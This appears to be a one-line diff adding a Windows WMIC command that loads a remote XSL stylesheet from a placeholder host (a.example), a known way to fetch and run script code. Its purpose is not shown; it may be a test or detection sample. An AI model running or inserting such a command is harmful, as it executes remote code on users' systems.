@@ -1,0 +1,1 @@
+wmic os get /format:"http://a.example/x.xsl"
